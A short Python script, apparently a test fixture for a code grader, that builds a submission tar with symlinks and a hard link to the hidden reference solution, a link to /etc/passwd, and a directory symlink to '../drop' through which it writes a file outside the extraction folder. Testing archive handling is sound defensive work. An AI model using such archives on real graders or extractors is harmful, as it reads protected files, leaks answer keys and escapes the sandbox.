# A tar whose sources are links to what nobody may read, and folders that lead out of it.
import io, re, tarfile

reference = re.search(r'REFERENCE "(.*)"', open("submission/target.h").read())[1]
with tarfile.open("submission.tar", "w") as archive:
    archive.add("submission/numbers.c", "numbers.c")
    for name, to, kind in (
        ("series.c", reference, tarfile.SYMTYPE),
        ("passwd.h", "/etc/passwd", tarfile.SYMTYPE),
        ("hard.c", reference, tarfile.LNKTYPE),
        ("away", "../drop", tarfile.SYMTYPE),
    ):
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, to
        archive.addfile(entry)
    through = tarfile.TarInfo("away/through.c")
    through.size = 4
    archive.addfile(through, io.BytesIO(b"hi;\n"))
